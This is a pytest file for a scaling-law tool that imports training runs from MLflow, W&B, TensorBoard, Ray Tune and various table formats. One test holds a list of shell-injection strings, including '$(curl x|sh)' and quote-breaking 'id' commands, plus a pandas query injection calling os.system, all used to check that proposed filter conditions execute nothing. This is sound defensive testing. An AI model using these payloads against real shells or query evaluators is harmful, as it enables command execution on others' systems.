"""Runs of other tools: each format gives the planted table, each choice a sentence."""

import json
import shlex
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from clue_ray import fit_law
from clue_ray.cli.foreign import open_runs, write_directory
from clue_ray.errors import RunsError
from clue_ray.foreign.table import import_runs
from clue_ray.foreign.wire import decode, leveldb_records, tf_records
from clue_ray.runs import Runs
from tests.foreign.written import (
    RUNS,
    WRITERS,
    field,
    log_of,
    mlflow_database,
    mlflow_files,
    ray_tune,
    rows,
    tensorboard,
    wandb,
)  # fmt: skip

STUDY = Path(__file__).parents[2] / "studies" / "quickstart.yaml"
PUBLIC = Path(__file__).parents[3] / "shared" / "forecasts" / "data"


@pytest.mark.parametrize("tool", WRITERS)
def test_each_tool_gives_the_planted_runs(tool: str, tmp_path: Path) -> None:
    found = import_runs(WRITERS[tool](tmp_path))
    table = found.runs.table.sort_values("train_flops")
    assert np.allclose(table["train_flops"], RUNS["train_flops"], rtol=1e-6)
    assert np.allclose(table["loss"], RUNS["val_loss"], rtol=1e-6)
    assert np.allclose(table["non_embedding_params"], RUNS["n_params"], rtol=1e-6)
    failed = tool != "tensorboard"  # which does not know how a run ended
    assert list(table["status"]) == ["done"] * 7 + (["failed"] if failed else ["done"])
    assert "'val_loss' is taken as the loss (y)." in found.notes
    assert any("1 run did not finish" in note for note in found.notes) == failed
    fit = fit_law("power_law_plus_constant", found.runs, x="train_flops", y="loss")
    assert fit.parameters["exponent"] == pytest.approx(0.15, abs=1e-3)


def test_hyperparameters_belong_to_the_run_above_their_folder(tmp_path: Path) -> None:
    table = import_runs(tensorboard(tmp_path)).runs.table
    assert list(table["run_id"]) == [f"run{number}" for number in range(len(RUNS))]
    assert set(table["lr"]) == {0.5}
    assert set(table["data"]) == {"c4"}


def test_a_trial_that_failed_before_it_wrote_anything_is_a_row(tmp_path: Path) -> None:
    ray_tune(tmp_path)
    file = tmp_path / "experiment_state-2026.json"
    document = json.loads(file.read_text())
    lost = {"relative_logdir": "train_00008", "status": "ERROR", "config": {"n_params": 5.0}}
    document["trial_data"].append([json.dumps(lost), "{}"])
    file.write_text(json.dumps(document))
    last = import_runs(tmp_path).runs.table.iloc[-1]
    assert (last["run_id"], last["status"], last["config/n_params"]) == ("train_00008", "failed", 5)


def test_tables_in_every_format_are_read_alike(tmp_path: Path) -> None:
    RUNS.to_csv(tmp_path / "a.csv", index=False)
    RUNS.to_csv(tmp_path / "b.tsv", index=False, sep="\t")
    RUNS.to_parquet(tmp_path / "c.parquet")
    RUNS.to_json(tmp_path / "d.jsonl", orient="records", lines=True)
    RUNS.to_json(tmp_path / "e.json", orient="records")
    nested = [
        {"name": f"r{i}", "state": "finished", "config": {"n_params": row["n_params"]},
         "summary": {"train_flops": row["train_flops"], "val": {"loss": row["val_loss"]}}}
        for i, row in enumerate(rows())
    ]  # fmt: skip
    (tmp_path / "f.json").write_text(json.dumps(nested))
    # The W&B guide's own export: a CSV whose cells hold mappings as Python writes them.
    pd.DataFrame(nested).map(str).to_csv(tmp_path / "g.csv", index=False)
    for file in sorted(tmp_path.iterdir()):
        table = import_runs(file).runs.table
        assert np.allclose(table["train_flops"], RUNS["train_flops"]), file
        assert np.allclose(table["loss"], RUNS["val_loss"]), file
        assert np.allclose(table["non_embedding_params"], RUNS["n_params"]), file


def test_a_folder_of_curves_gives_their_ends(tmp_path: Path) -> None:
    """The shape of OLMo's exports: a CSV per run, a row per step, compute in Gflops."""
    for number, row in enumerate(rows()):
        curve = pd.DataFrame({
            "_step": [100, 200],
            "eval/c4/CrossEntropyLoss": [9.0, row["val_loss"]],
            "throughput/total_training_Gflops": [1.0, row["train_flops"] / 1e9],
            "throughput/total_tokens": [1, 2],
        })  # fmt: skip
        curve.to_csv(tmp_path / f"{number}M-1xC.csv", index=False)
    found = import_runs(tmp_path)
    table = found.runs.table
    assert np.allclose(table["train_flops"], RUNS["train_flops"])
    assert np.allclose(table["loss"], RUNS["val_loss"])
    assert list(table["run_id"])[:2] == ["0M-1xC", "1M-1xC"]
    assert "Of 8 files, each the curve of one run, the last values count." in found.notes
    assert any("converted to FLOP: times 1e+09" in note for note in found.notes)
    assert found.x.unit == "FLOP"
    pd.DataFrame({"_step": [1, 2, 3], "loss": [3.0, 2.0, 1.0]}).to_csv(tmp_path / "one.csv")
    with pytest.raises(RunsError, match="is the curve of one run, one row per _step"):
        import_runs(tmp_path / "one.csv")


def test_columns_of_nanochat(tmp_path: Path) -> None:
    """results.csv of its scaling_laws.sh, and of its miniseries, which has no compute."""
    table = pd.DataFrame({
        "flops_budget": RUNS["train_flops"], "depth": 10, "params_transformer": RUNS["n_params"],
        "tokens_trained": 1e9, "num_iterations": 100, "val_bpb": RUNS["val_loss"],
        "core_score": 0.1, "train_time_sec": 60,
    })  # fmt: skip
    table.to_csv(tmp_path / "results.csv", index=False)
    found = import_runs(tmp_path / "results.csv")
    assert (found.x.column, found.y.column) == ("flops_budget", "val_bpb")
    assert found.runs.table["steps"].eq(100).all()
    table.drop(columns="flops_budget").to_csv(tmp_path / "mini.csv", index=False)
    found = import_runs(tmp_path / "mini.csv")
    assert np.allclose(found.runs.table["train_flops"], 6 * RUNS["n_params"] * 1e9)
    assert any(note.startswith("The table has no compute, so x is 6") for note in found.notes)


def test_choices_are_told_and_can_be_made(tmp_path: Path) -> None:
    file = tmp_path / "runs.csv"
    RUNS.assign(train_loss=2.0, test_loss=RUNS["val_loss"], opt="adam").to_csv(file, index=False)
    found = import_runs(file)
    assert found.y.column == "test_loss"
    assert any(
        "it could also be 'val_loss', 'train_loss': give --y" in note for note in found.notes
    )
    assert import_runs(file, x="N_Params", y="Val Loss").y.column == "val_loss"
    for asked, words in (
        ({"y": "acc"}, "no column 'acc'"),
        ({"y": "opt"}, "Column 'opt' holds no numbers; give --y, one of"),
        ({"where": "opt =="}, "cannot be read"),
        ({"where": "train_loss > 3"}, "No run meets"),
    ):
        with pytest.raises(RunsError, match=words):
            import_runs(file, **asked)
    assert len(import_runs(file, where="train_flops > 1e15").runs) == 4


@pytest.mark.parametrize(
    ("name", "factor"),
    [
        ("training_flops", 1.0),
        ("config/flops", 1.0),
        ("budget/flops", 1.0),
        ("total_training_Gflops", 1e9),
        ("total_tflops", 1e12),
        ("pflop_days", 8.64e19),
        ("PF-days", 8.64e19),
        ("PFLOP/s-days", 8.64e19),
        ("petaflop_days", 8.64e19),
        ("train_pf_days", 8.64e19),
        ("gflops", 1e9),
        ("train_gflops", 1e9),
        ("training_exaflops", 1e18),
        ("Training compute (FLOP)", 1.0),
    ],
)
def test_a_unit_is_a_word_of_the_name(name: str, factor: float, tmp_path: Path) -> None:
    table = pd.DataFrame({name: [1.0, 2.0, 4.0, 8.0], "loss": [4.0, 3.0, 2.5, 2.2]})
    table.to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert found.runs.table["train_flops"].tolist() == [factor * c for c in (1, 2, 4, 8)]


def test_a_speed_is_no_compute(tmp_path: Path) -> None:
    table = RUNS.assign(tokens=1e9).drop(columns="train_flops")
    table["throughput/tflops"] = 100.0
    table["gflops_per_second"] = 100.0
    table.to_csv(tmp_path / "runs.csv", index=False)
    assert import_runs(tmp_path / "runs.csv").notes[1].startswith("The table has no compute")


@pytest.mark.parametrize("name", ["tflops", "TFLOPS", "gflops"])
def test_a_bare_unit_is_not_trusted_where_parameters_and_tokens_are_known(
    name: str, tmp_path: Path
) -> None:
    table = RUNS.assign(tokens=1e9).drop(columns="train_flops")
    table[name] = 100.0  # a speed
    table.to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert any(note.startswith(f"{name!r} may be a speed, so x is 6 ") for note in found.notes)


@pytest.mark.parametrize("y", [None, "loss", "Val Loss"])
@pytest.mark.parametrize("x", [None, "pf_days"])
def test_units_do_not_depend_on_the_loss_that_was_asked(
    x: str | None, y: str | None, tmp_path: Path
) -> None:
    table = RUNS.assign(pf_days=RUNS["train_flops"] / 8.64e19, loss=RUNS["val_loss"])
    table.drop(columns="train_flops").to_csv(tmp_path / "runs.csv", index=False)
    opened = open_runs(tmp_path / "runs.csv", x and [x], y, None)
    assert np.allclose(opened.runs.table[opened.x[0]], RUNS["train_flops"])
    several = open_runs(tmp_path / "runs.csv", ["n_params", "pf_days"], y, None)
    assert several.x == ["n_params", "pf_days"]
    assert np.allclose(several.runs.table["pf_days"], RUNS["train_flops"])
    assert any("'pf_days' was converted to FLOP" in note for note in several.notes)


def curves_of(models: pd.DataFrame) -> pd.DataFrame:
    """Each model at three steps, the last with its own compute and loss."""
    return pd.concat([
        models.assign(
            step=step, train_flops=models["train_flops"] * step / 300,
            val_loss=models["val_loss"] + 1 - step / 300,
        )
        for step in (100, 200, 300)
    ])  # fmt: skip


def test_curves_told_apart_by_a_model_alone_are_one_run_each(tmp_path: Path) -> None:
    models = RUNS.assign(model=[f"m{n}" for n in RUNS.index])
    curves = curves_of(models).sample(frac=1, random_state=0)
    curves.to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert np.allclose(sorted(found.runs.table["loss"], reverse=True), RUNS["val_loss"])
    assert set(found.runs.table["run_id"]) == set(models["model"])
    assert any("the rows of one 'model' are one run, by 'step'" in note for note in found.notes)
    opened = open_runs(tmp_path / "runs.csv", ["train_flops"], "val_loss", None)
    assert len(opened.runs) == len(RUNS)
    (tmp_path / "folder").mkdir()
    curves.to_csv(tmp_path / "folder" / "all.csv", index=False)
    assert len(import_runs(tmp_path / "folder").runs) == len(RUNS)


@pytest.mark.parametrize("differ", ["n_params", "train_flops", "step", "batch"])
def test_a_model_that_is_a_family_keeps_its_runs(differ: str, tmp_path: Path) -> None:
    family = curves_of(RUNS.assign(model=list("aabbccdd"))).assign(n_params=1e6)
    family["step"] = np.arange(len(family))
    last = len(family) - 1 - np.arange(len(family))
    family[differ] = 10 if differ == "step" else (1.0 + last) * 1e9
    family.to_csv(tmp_path / "runs.csv", index=False)
    assert len(import_runs(tmp_path / "runs.csv").runs) == len(family)


def test_a_study_is_read_from_its_table_and_not_from_its_tune_folder(tmp_path: Path) -> None:
    ray_tune(tmp_path / "tune")
    table = RUNS.rename(columns={"val_loss": "loss"})[:5].assign(seed=[0, 0, 0, 1, 1])
    Runs(table.assign(run_id=list("abcde"), status="done")).write(tmp_path)
    assert len(import_runs(tmp_path).runs) == 5
    (tmp_path / "plan.json").write_text("{}")
    found = import_runs(tmp_path, where="seed == 0")
    assert list(found.runs.table["run_id"]) == ["a", "b", "c"]
    assert found.naming()["loss"] == {"label": "held-out loss", "unit": "nats"}
    home = write_directory(tmp_path, None, None, "seed == 0", tmp_path / "pages")
    assert len(pd.read_csv(home / "runs.csv")) == 3


@pytest.mark.parametrize(
    ("first", "second"), [("a/runs.csv", "b/runs.csv"), ("x.v1.csv", "x.v2.csv")]
)
def test_two_tables_never_share_a_page(first: str, second: str, tmp_path: Path) -> None:
    files = [tmp_path / first, tmp_path / second]
    for file in files:
        file.parent.mkdir(exist_ok=True)
        RUNS.to_csv(file, index=False)
    homes = [write_directory(files[0], None, None, None, tmp_path / "out") for _ in range(2)]
    assert homes[0] == homes[1]
    before = (homes[0] / "source.json").read_text()
    with pytest.raises(RunsError, match="give another --output") as error:
        write_directory(files[1], None, None, None, tmp_path / "out")
    assert str(files[0]) in str(error.value)
    assert (homes[0] / "source.json").read_text() == before
    assert write_directory(files[1], None, None, None, tmp_path / "other").is_dir()


def test_tables_of_a_folder_are_read_as_each_alone(tmp_path: Path) -> None:
    """Runs of different steps are no curve, and the curves of several runs are no runs."""
    runs = pd.DataFrame(
        {"run": list("abcde"), "step": [1, 2, 4, 8, 16], "flops": [1.0, 2, 4, 8, 16]}
    )
    runs["loss"] = 4 - np.log10(runs["flops"])
    steps = pd.concat([runs.assign(step=s, loss=runs["loss"] + 1 - s / 3) for s in (1, 2, 3)])
    for name, table in (("runs", runs), ("curves", steps)):
        (tmp_path / name).mkdir()
        table.to_csv(tmp_path / name / "of.csv", index=False)
        folder = import_runs(tmp_path / name).runs.table
        file = import_runs(tmp_path / name / "of.csv").runs.table
        assert folder["loss"].tolist() == pytest.approx(runs["loss"].tolist())
        assert folder["loss"].tolist() == file["loss"].tolist()


def test_curves_in_a_table_with_our_columns_are_runs_for_every_command(tmp_path: Path) -> None:
    table = pd.DataFrame({"run": list("abcd") * 3, "step": np.repeat([1, 2, 3], 4)})
    table = table.assign(train_flops=np.tile([1.0, 2, 4, 8], 3), loss=np.linspace(4, 3, 12))
    table.to_csv(tmp_path / "runs.csv", index=False)
    opened = open_runs(tmp_path / "runs.csv", None, None, None)
    assert len(opened.runs.table) == len(import_runs(tmp_path / "runs.csv").runs.table) == 4
    assert "12 rows are the curves of 4 runs" in opened.notes[0]


def two_of_files(root: Path) -> Path:
    (mlflow_files(root) / "1").rename(root / "2")
    (root / "2" / "meta.yaml").write_text("experiment_id: '2'\nname: other\n")
    return mlflow_files(root)


def two_of_a_database(root: Path) -> Path:
    file = mlflow_database(root / "mlflow.db")
    with closing(sqlite3.connect(file)) as store:
        store.execute("UPDATE runs SET experiment_id = 2 WHERE run_uuid >= 'run4'")
        store.commit()
    return file


def two_of_wandb(root: Path) -> Path:
    for project in ("scale", "other"):
        wandb(root / project, project)
    return root


def two_of_ray_tune(root: Path) -> Path:
    for experiment in ("scale", "other"):
        ray_tune(root / experiment)
    return root


@pytest.mark.parametrize(
    ("write", "column", "own"),
    [
        (two_of_files, "experiment", 8),
        (two_of_a_database, "experiment", 4),
        (two_of_wandb, "project", 8),
        (two_of_ray_tune, "experiment", 8),
    ],
)
def test_two_experiments_of_one_store_are_told_apart(
    write: Callable[[Path], Path], column: str, own: int, tmp_path: Path
) -> None:
    store = write(tmp_path)
    found = import_runs(store)
    assert found.group == column
    (said,) = found.warnings
    assert f"of 2 families ('{column}')" in said
    one = import_runs(store, where=f"{column} == 'scale'")
    assert len(one.runs) == own
    assert not one.warnings


@pytest.mark.parametrize("group", ["config/arch", "family"])
@pytest.mark.parametrize("values", [["dense", "moe"], [1, 2]])
def test_the_proposed_condition_selects_a_family(group: str, values: list, tmp_path: Path) -> None:
    table = pd.DataFrame({group: values * 4, "flops": np.geomspace(1, 1e3, 8)})
    table.assign(loss=4 - np.log10(table["flops"])).to_csv(tmp_path / "runs.csv", index=False)
    (said,) = [w for w in import_runs(tmp_path / "runs.csv").warnings if "--where" in w]
    where = shlex.split(said.partition("--where ")[2])[0]
    assert len(import_runs(tmp_path / "runs.csv", where=where).runs.table) == 4


HOSTILE = ["$(curl x|sh)", "`id`", "a'; id; '", 'a"; id; "', "!!", "\\", "a\nid\n", "${HOME}"]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("column", ["group", "a` or @pd.io.common.os.system('id') or `b/group"])
def test_a_pasted_condition_runs_nothing(name: str, column: str, tmp_path: Path) -> None:
    """Shells run what stands in double quotes, and pandas what stands between names."""
    table = RUNS.assign(**{column: [name, "other"] * 4})
    table.to_csv(tmp_path / "runs.csv", index=False)
    (said,) = [w for w in import_runs(tmp_path / "runs.csv").warnings if "families" in w]
    if column != "group" or "`" in name:  # no condition can hold it, so none is proposed
        assert "--where" not in said
        return
    command = said.partition("give ")[2].removesuffix(" for one family.")
    echo = f"printf '%s\\n' {command}"
    printed = subprocess.run(["sh", "-c", echo], capture_output=True, text=True, check=True)
    option, where = printed.stdout.rstrip("\n").split("\n", 1)
    assert (option, where) == ("--where", shlex.split(command)[1])
    assert len(import_runs(tmp_path / "runs.csv", where=where).runs) == 4


def test_runs_that_cannot_be_fitted_are_counted(tmp_path: Path) -> None:
    table = RUNS.assign(state="finished")
    table.loc[0, "val_loss"] = np.nan
    table.loc[1, "val_loss"] = np.inf
    table.loc[2, "state"] = "crashed"
    table.to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert list(found.runs.table["status"][:4]) == ["missing", "diverged", "failed", "done"]
    assert len(found.runs) == 8
    assert sum("left out of the fit" in note for note in found.notes) == 3


@pytest.mark.parametrize(
    ("tags", "taken"),
    [
        (("Loss/train", "Loss/test"), "Loss/test"),
        (("hparam/loss", "loss/val"), "loss/val"),
        (("summary/train/loss", "summary/eval/loss"), "summary/eval/loss"),
    ],
)
def test_held_out_losses_come_before_others(
    tags: tuple[str, ...], taken: str, tmp_path: Path
) -> None:
    table = RUNS[["train_flops"]].assign(**dict.fromkeys(tags, RUNS["val_loss"]))
    table.to_csv(tmp_path / "runs.csv", index=False)
    assert import_runs(tmp_path / "runs.csv").y.column == taken


def test_a_loss_that_is_no_number_hides_no_column(tmp_path: Path) -> None:
    values = [str(loss) for loss in RUNS["val_loss"]]
    values[2], values[4] = "NaN", " null "
    RUNS.assign(val_loss=values).to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert found.y.column == "val_loss"
    summary = [json.dumps({"val_loss": loss}).replace(f"{loss}", "NaN" if n == 2 else f"{loss}")
               for n, loss in enumerate(RUNS["val_loss"])]  # fmt: skip
    RUNS.drop(columns="val_loss").assign(summary=[s.replace('"', "'") for s in summary]).to_csv(
        tmp_path / "wandb.csv", index=False
    )
    found = import_runs(tmp_path / "wandb.csv")
    assert found.y.column == "summary/val_loss"


def test_a_step_that_a_resumed_run_logged_twice_is_one_step(tmp_path: Path) -> None:
    curves = pd.concat([
        RUNS.assign(run=[f"r{n}" for n in RUNS.index], step=step, val_loss=RUNS["val_loss"] + more)
        for step, more in ((100, 2.0), (200, 1.0), (300, 0.0))
    ])  # fmt: skip
    again = curves[(curves["run"] == "r1") & (curves["step"] == 200)].assign(val_loss=7.0)
    training = curves[(curves["run"] == "r2") & (curves["step"] == 300)].assign(val_loss=None)
    crashed = curves[:1].assign(run="r99", step=1)  # a run of a single step
    parts = [again, curves, training.assign(train_loss=1.0), crashed.assign(val_loss=9.0)]
    pd.concat(parts).to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert len(found.runs) == len(RUNS) + 1
    assert np.allclose(sorted(found.runs.table["loss"]), sorted([*RUNS["val_loss"], 9.0]))


def test_runs_have_their_names_where_these_are_unique(tmp_path: Path) -> None:
    table = RUNS.assign(run_id=[f"{row:x}f" for row in range(len(RUNS))])
    for name, expected in (("n{}", "n3"), ("same", "3f")):
        named = table.assign(name=[name.format(row) for row in range(len(RUNS))])
        named.to_csv(tmp_path / "runs.csv", index=False)
        assert import_runs(tmp_path / "runs.csv").runs.table["run_id"][3] == expected


def test_one_experiment_keeps_its_seeds(tmp_path: Path) -> None:
    """All runs of a tracker name their experiment; with one, seeds are seeds."""
    table = RUNS.assign(experiment="dense", seed=range(len(RUNS)))
    table.to_csv(tmp_path / "runs.csv", index=False)
    assert "seed" in import_runs(tmp_path / "runs.csv").runs.table


def test_seeds_of_several_families_are_not_one_setting(tmp_path: Path) -> None:
    """Three routers with a seed each are not three seeds of one model."""
    base = RUNS.rename(columns={"n_params": "N"})
    parts = [base.assign(group=name, seed=seed) for seed, name in enumerate("abc")]
    pd.concat(parts).to_csv(tmp_path / "few.csv", index=False)
    found = import_runs(tmp_path / "few.csv")
    assert found.group == "group"
    (warning,) = found.warnings
    assert "of 3 families ('group')" in warning
    assert warning in found.notes
    many = [base.assign(group=f"g{number}", seed=number) for number in range(20)]
    pd.concat(many).to_csv(tmp_path / "many.csv", index=False)
    assert "seed" in import_runs(tmp_path / "few.csv").runs.table
    names = import_runs(tmp_path / "many.csv").runs.table.columns
    assert "encoder_size" not in names
    assert "of 20 families" in import_runs(tmp_path / "many.csv").warnings[0]


def test_tokens_follow_from_compute_and_parameters(tmp_path: Path) -> None:
    table = RUNS.assign(train_flops=6 * RUNS["n_params"] * 2e9)
    table.to_csv(tmp_path / "runs.csv", index=False)
    found = import_runs(tmp_path / "runs.csv")
    assert set(found.runs.table["train_tokens"]) == {2e9}
    assert any("compute / (6 parameters)" in note for note in found.notes)


def test_compute_that_parameters_and_tokens_take_is_flop(tmp_path: Path) -> None:
    for factor, unit in ((6.3, "FLOP"), (1e-3, "")):
        table = RUNS.assign(tokens=1e9, C=factor * RUNS["n_params"] * 1e9)
        table.drop(columns="train_flops").to_csv(tmp_path / "runs.csv", index=False)
        found = import_runs(tmp_path / "runs.csv")
        assert (found.x.column, found.x.unit) == ("C", unit)
        assert ("is about 6 n_params tokens" in " ".join(found.notes)) == bool(unit)


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("empty.csv", "", "it is empty"),
        ("words.csv", "a,b\nx,y\n", "a table, has no number of its 1 run; give one whose runs"),
        ("nox.csv", "a,b\n1,y\n", "No column is known as compute"),
        ("noloss.csv", "flops,b\n1e9,1\n", "No column is known as a loss; give --y, one of"),
        ("chart.csv", "Step,r - loss,r - loss__MIN\n1,2,2\n", "export of a W&B chart"),
        ("mlflow.db", "not a database", "it is not an MLflow database"),
    ],
)
def test_what_cannot_be_read_is_one_sentence(
    name: str, content: str, words: str, tmp_path: Path
) -> None:
    (tmp_path / name).write_text(content)
    with pytest.raises(RunsError, match=words) as error:
        import_runs(tmp_path / name)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"val_loss": np.nan}, "Column 'val_loss' holds no finite number; fill it, or give --y"),
        ({"train_flops": np.nan}, "Column 'train_flops' holds no finite number"),
        ({"val_loss": [*RUNS["val_loss"][:7], "lost"]}, "holds 1 text among 8 values, such as 'lo"),
        (
            {"val_loss": -RUNS["val_loss"]},
            "No run can be fitted: 8 runs have a compute or val_loss",
        ),
        ({"state": "crashed"}, "No run can be fitted: 8 runs did not finish; give other"),
    ],
)
def test_cells_that_cannot_be_fitted_are_one_sentence(
    change: dict, words: str, tmp_path: Path
) -> None:
    table = RUNS.drop(columns="n_params").assign(**change)  # which would stand for compute
    table.to_csv(tmp_path / "runs.csv", index=False)
    with pytest.raises(RunsError) as error:
        open_runs(tmp_path / "runs.csv", None, None, None)
    assert words in str(error.value)
    assert "\n" not in str(error.value)


def test_folders_without_runs_are_refused(tmp_path: Path) -> None:
    with pytest.raises(RunsError, match="holds no runs"):
        import_runs(tmp_path)
    with pytest.raises(RunsError, match="There is no"):
        import_runs(tmp_path / "none")


def test_half_written_logs_give_what_is_there(tmp_path: Path) -> None:
    """A run that is still written, or was killed, is missing and not done."""
    file = next(wandb(tmp_path).rglob("*.wandb"))
    whole = file.read_bytes()
    for end in range(0, len(whole), 11):
        file.write_bytes(whole[:end])
        status = import_runs(tmp_path).runs.table["status"]
        assert len(status) == len(RUNS)
        assert list(status).count("missing") == 1
    events = next((tensorboard(tmp_path / "tb") / "run0").glob("events*"))
    content = events.read_bytes()
    events.write_bytes(content[:-7])
    assert len(list(tf_records(content[:-7]))) == len(list(tf_records(content))) - 1
    assert len(import_runs(tmp_path / "tb").runs) == 8


def test_half_written_settings_leave_a_row(tmp_path: Path) -> None:
    for folder, half in (("mlruns", "1/run2/meta.yaml"), ("tune", "train_00002/params.json")):
        tool = {"mlruns": "mlflow-files", "tune": "ray-tune"}[folder]
        file = WRITERS[tool](tmp_path) / half
        file.write_text(file.read_text()[:7])
        assert len(import_runs(tmp_path / folder).runs) == len(RUNS)


def test_records_over_blocks_are_joined() -> None:
    records = [field(1, bytes([number]) * size) for number, size in enumerate((5, 70_000, 32_740))]
    assert list(leveldb_records(log_of(records))) == records
    assert decode(records[1])[1] == [b"\x01" * 70_000]
    with pytest.raises(ValueError, match="cut"):
        decode(records[1][:100])


@pytest.mark.skipif(not PUBLIC.is_dir(), reason="the public runs are not on this machine")
@pytest.mark.parametrize("file", sorted(PUBLIC.glob("*.csv")), ids=lambda file: file.stem)
def test_public_tables_are_read(file: Path) -> None:
    found = import_runs(file)
    assert (found.x.column, found.y.column) == ("C", "L")
    assert len(found.runs) == len(pd.read_csv(file))


@pytest.mark.slow
def test_fitting_and_reporting_load_neither_torch_nor_ray(tmp_path: Path) -> None:
    """A stranger's table to a forecast, a law and a page, in one process without the extras."""
    table = RUNS.rename(columns={"train_flops": "C", "val_loss": "L"})
    table.to_csv(tmp_path / "stranger.csv", index=False)
    code = f"""
import sys
class Without:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("torch", "ray", "tokenizers", "safetensors", "tensorboard"):
            raise ModuleNotFoundError(name, name=name)
sys.meta_path.insert(0, Without())
from clue_ray.cli.main import main
def run(line):
    sys.argv = ["clue-ray", *line.split()]
    try:
        main()
    except SystemExit as end:
        return end.code or 0
assert run("plan {STUDY}") == 2
for line in ("forecast {{0}} --at 1e21", "fit {{0}}", "report {{0}} --output {tmp_path}"):
    assert not run(line.format("{tmp_path}/stranger.csv")), line
"""
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert ran.returncode == 0, ran.stderr
    assert "'C' is taken as compute (x)." in ran.stdout
    assert "clue-ray: This needs ray, which is not part of the base installation" in ran.stderr
    assert "pip install 'clue-ray[train,cluster]'" in ran.stderr
    page = (tmp_path / "stranger" / "report" / "index.html").read_text(encoding="utf-8")
    assert "How the runs were read" in page
    assert "nats" not in page
    assert "chance" not in page.split("How the runs were read")[0]
    assert "exponent" in page
